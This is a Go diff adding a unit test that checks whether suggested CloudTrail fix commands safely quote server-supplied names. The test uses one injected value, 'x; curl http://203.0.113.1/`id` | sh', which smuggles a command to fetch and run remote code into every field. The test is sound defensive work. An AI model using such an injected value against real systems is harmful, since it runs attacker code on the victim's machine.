@@ -43,3 +43,21 @@ func TestProblems(t *testing.T) {
 		})
 	}
 }
+
+// What a server names is one word in the commands that are shown.
+func TestProblemsQuoteWhatServersSay(t *testing.T) {
+	bad := "x; curl http://203.0.113.1/`id` | sh"
+	s := Status{
+		Trail:         Trail{Name: bad, HomeRegion: bad, Bucket: bad, TopicARN: bad, LogGroupARN: bad + ":*"},
+		DeliveryError: "AccessDenied", DigestError: "NoSuchBucket", NotificationError: "NotFound", LogGroupError: "ResourceNotFound",
+	}
+	list := s.Problems()
+	if len(list) != 5 {
+		t.Fatalf("%+v", list)
+	}
+	for _, p := range list {
+		if rest := strings.ReplaceAll(p.Do, "'"+bad+"'", ""); rest == p.Do || strings.ContainsAny(rest, ";|`") {
+			t.Errorf("%s: %s", p.What, p.Do)
+		}
+	}
+}
